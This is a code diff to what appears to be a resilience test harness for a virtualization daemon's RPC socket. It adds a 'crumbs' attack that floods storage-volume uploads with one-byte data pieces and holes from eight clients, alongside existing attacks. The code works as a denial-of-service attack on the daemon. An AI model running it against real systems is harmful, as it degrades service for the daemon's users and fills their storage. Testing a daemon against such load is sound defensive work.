@@ -19,6 +19,7 @@ import wire
 from wire import Client, string, u32
 
 HOSTNAME, LIST_NETWORKS = 59, 283
+POOL_BY_NAME, CREATE_VOLUME, VOLUME_BY_NAME, UPLOAD = 84, 93, 95, 208
 MOST = 0.5  # seconds that a call may take at worst; usually it is a few hundred microseconds
 MEMORY = 400  # MiB that the daemon may hold more than before, while all attack
 
@@ -114,7 +115,35 @@ def deaf(path):
         number += 1
 
 
-ATTACKS = {attack.__name__: attack for attack in (connections, slow, large, unread, deaf)}
+def crumbs(path):
+    """Uploads to volumes, in pieces of a byte and in holes of one: far more pieces than any disk takes."""
+    clients, pieces = [Client(path).open() for _ in range(8)], []
+    reader = clients[0].good(POOL_BY_NAME, string("default"))
+    pool = string(reader.string()) + reader.take(16)
+    for index, client in enumerate(clients):
+        xml = f"<volume><name>crumbs{index}</name><capacity>1000000000</capacity><allocation>0</allocation></volume>"
+        try:
+            reader = client.good(CREATE_VOLUME, pool + string(xml) + u32(0))
+        except RuntimeError:  # it is left of the attack before
+            reader = client.good(VOLUME_BY_NAME, pool + string(f"crumbs{index}"))
+        volume = b"".join(string(reader.string()) for _ in range(3))
+        serial = client.send(UPLOAD, volume + wire.u64(0) + wire.u64(0) + u32(1))
+        client.reply_to(serial)
+        pieces.append((wire.packet(UPLOAD, b"a", kind=wire.STREAM, serial=serial, status=wire.CONTINUE) +
+                       wire.packet(UPLOAD, wire.u64(1) + u32(0), kind=wire.HOLE, serial=serial, status=wire.CONTINUE)) * 500)
+        client.socket.setblocking(False)
+    yield
+    left = list(pieces)
+    while True:
+        for index, client in enumerate(clients):
+            try:
+                left[index] = left[index][client.socket.send(left[index]):] or pieces[index]
+            except BlockingIOError:
+                pass
+        time.sleep(0.001)
+
+
+ATTACKS = {attack.__name__: attack for attack in (connections, slow, large, unread, deaf, crumbs)}
 
 
 def attack(kind, path):
